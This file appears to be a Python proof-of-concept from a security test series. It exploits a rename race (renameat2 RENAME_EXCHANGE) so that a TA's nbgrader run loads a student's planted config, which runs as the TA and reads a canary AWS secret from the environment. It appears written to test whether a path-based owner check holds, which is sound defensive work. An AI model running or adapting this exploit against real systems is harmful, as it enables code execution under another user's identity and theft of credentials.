"""a06: a02 with the TA's own folder (root, 0700, nothing of the student's in it) as the folder nbgrader runs in,
kept in a parent folder the student owns. The venv-wide guard stats os.getcwd() (a path), and nbgrader then loads
os.getcwd() + "/nbgrader_config.py" (a path again): the student keeps exchanging (renameat2 RENAME_EXCHANGE) the
TA's folder with her own (0755, her nbgrader_config.py) under their two names. The TA's process starts with its
cwd on her own folder (fchdir to a descriptor opened before the loop). Would an owner check on the path be enough?"""
import os, ctypes, subprocess, json, shutil, time, signal

BASE = "/tmp/attack45-root-a06"
shutil.rmtree(BASE, ignore_errors=True)
os.makedirs(BASE); os.chmod(BASE, 0o755)
P = f"{BASE}/P"; os.mkdir(P); os.chown(P, 65534, 65534); os.chmod(P, 0o755)
R = f"{P}/work"; os.mkdir(R, 0o700)  # the TA's own
NB = "CLONE/.venv/bin/nbgrader"
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
MARKS = f"{BASE}/marks"; os.mkdir(MARKS); os.chmod(MARKS, 0o777)
CONFIG = '''import os, json
open("%s/ran-" + str(os.getpid()), "w").write(json.dumps({"uid": os.getuid(), "canary": os.environ.get("AWS_SECRET_ACCESS_KEY") == "AKIASECRETCANARY123"}))
''' % MARKS
rfd = os.open(R, os.O_RDONLY | os.O_DIRECTORY)

pid = os.fork()
if pid == 0:
    os.setgroups([]); os.setgid(65534); os.setuid(65534)
    S = f"{P}/swap"; os.mkdir(S, 0o755); open(f"{S}/nbgrader_config.py", "w").write(CONFIG)
    libc = ctypes.CDLL(None, use_errno=True)
    a, b = R.encode(), S.encode()
    while True:
        libc.renameat2(-100, a, -100, b, 2)  # RENAME_EXCHANGE
        time.sleep(0.0002)
time.sleep(0.5)
wins = 0
for attempt in range(1, 9):
    for f in os.listdir(MARKS): os.unlink(os.path.join(MARKS, f))
    r = subprocess.run([NB, "list"], env=ENV, capture_output=True, text=True, timeout=120, preexec_fn=lambda: os.fchdir(rfd))
    ran = [json.load(open(os.path.join(MARKS, f))) for f in os.listdir(MARKS)]
    wins += bool(ran)
    refused = "not running in" in r.stderr
    print(f"attempt {attempt}: student's config ran: {ran} refused: {refused}", flush=True)
print(f"wins: {wins} of 8")
os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)
os.close(rfd)
shutil.rmtree(BASE)
